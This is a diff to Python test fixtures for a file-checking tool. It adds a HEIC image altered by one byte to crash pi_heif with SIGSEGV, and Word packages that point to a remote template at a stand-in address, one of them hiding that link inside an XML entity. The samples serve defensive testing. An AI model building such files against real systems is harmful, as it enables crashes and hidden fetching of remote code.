@@ -10,8 +10,10 @@ from pathlib import Path
 from typing import Any
 
 import pikepdf
+from pi_heif import register_heif_opener
 from PIL import Image
 
+register_heif_opener()  # for what the tests read themselves; the house reads HEIC in a process of its own
 PLACE = {1: "N", 2: (16.0, 4.0, 0.0), 3: "E", 4: (108.0, 13.0, 0.0)}
 
 
@@ -31,6 +33,14 @@ def picture_that_tells_its_place(kind: str = "JPEG") -> bytes:
 def heic() -> bytes:
     """A picture that tells its place; drawn for these tests and kept, since nothing here writes HEIC."""
     return (Path(__file__).parent / "cong.heic").read_bytes()
+
+
+def heic_that_kills() -> bytes:
+    """The same with one byte altered: pi_heif 1.4.0 ends the process that opens it with SIGSEGV."""
+    raw = bytearray(heic())
+    assert raw[177] == ord("x")  # of "Exif", the kind of its second item
+    raw[177] = 0xA4
+    return bytes(raw)
 
 
 def picture_that_is_a_page() -> bytes:
@@ -119,6 +129,17 @@ def word_that_fetches() -> bytes:
     template = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
     told = f'<Relationship Id="r1" Type="{template}" Target="http://192.0.2.1/x.dotm" TargetMode="External"/>'
     return word(word___rels__settings_DOT_xml_DOT_rels=RELATIONS.format(told))
+
+
+def word_with_a_comment() -> bytes:
+    """Some programs leave one among the links."""
+    return word(word___rels__document_DOT_xml_DOT_rels=RELATIONS.format("<!-- made by a program -->"))
+
+
+def word_with_an_entity() -> bytes:
+    """What is fetched stands in an entity, where nobody who reads the links sees it."""
+    told = "<!DOCTYPE x [<!ENTITY e \"<Relationship TargetMode='External' Target='http://192.0.2.1'/>\">]>"
+    return word(word___rels__document_DOT_xml_DOT_rels=told + RELATIONS.format("&e;"))
 
 
 def word_with_a_link() -> bytes:
